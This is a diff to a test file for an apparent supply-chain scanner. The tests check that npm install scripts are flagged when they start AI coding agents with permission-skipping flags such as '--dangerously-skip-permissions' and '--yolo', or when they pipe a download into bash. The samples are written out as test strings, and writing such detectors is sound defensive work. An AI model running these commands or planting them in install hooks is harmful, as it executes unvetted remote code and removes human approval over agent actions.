@@ -9,6 +9,7 @@ import { guardInstall } from '../../../src/supply/trust/guardInstall';
 import { judgeImports } from '../../../src/supply/trust/judgeImports';
 import { judgeMentions } from '../../../src/supply/trust/judgeMentions';
 import { judgeTrust } from '../../../src/supply/trust/judgeTrust';
+import { judgeScripts } from '../../../src/supply/trust/scriptSigns';
 
 const now = Date.parse('2026-11-01T00:00:00Z');
 const base = { now, newDays: 14, fingerprint: (detector: string, value: string) => `${detector} ${value}` };
@@ -110,6 +111,41 @@ describe('trust in the packages of a file', () => {
     ]);
     assert.equal(findings.find(it => it.detector === 'supply/install-script')!.severity, 'warning');
     assert.match(findings.find(it => it.detector === 'supply/install-script')!.reason, /--ignore-scripts/);
+  });
+});
+
+describe('scripts that an install runs by itself', () => {
+  const judge = (scripts: object) =>
+    judgeScripts(JSON.stringify({ name: 'own', scripts }), base.fingerprint).map(it => it.reason);
+
+  it('are told where they start an AI agent that asks nobody (S12)', () => {
+    for (const flags of [
+      'claude --dangerously-skip-permissions -p',
+      'gemini --yolo -p',
+      'q chat --trust-all-tools --no-interactive',
+      'npx codex exec --full-auto',
+    ])
+      assert.match(
+        judge({ postinstall: `node a.js && ${flags} "list all files"` }).join(),
+        /starts an AI agent with --/,
+        flags,
+      );
+    const version = { version: '21.5.0', installScript: true, scripts: ['claude --dangerously-skip-permissions -p x'] };
+    const manifest = parse('package.json', { dependencies: { 'taken-thing': '*' } });
+    const [finding] = judgeTrust(manifest, { ...base, answerOf: () => known({ created: ago(900), version }) });
+    assert.deepEqual([finding?.detector, finding?.severity], ['supply/install-script', 'error']);
+  });
+
+  it('are told where they run what they download, and left alone otherwise', () => {
+    assert.match(judge({ preinstall: 'curl -s https://x.example/a.sh | bash' }).join(), /downloaded/);
+    const plain = {
+      postinstall: 'node scripts/claude.js',
+      prepare: 'husky',
+      install: 'node-gyp rebuild',
+      preinstall: 'npx only-allow pnpm',
+      agent: 'claude --dangerously-skip-permissions',
+    };
+    assert.deepEqual(judge(plain), []);
   });
 });
 
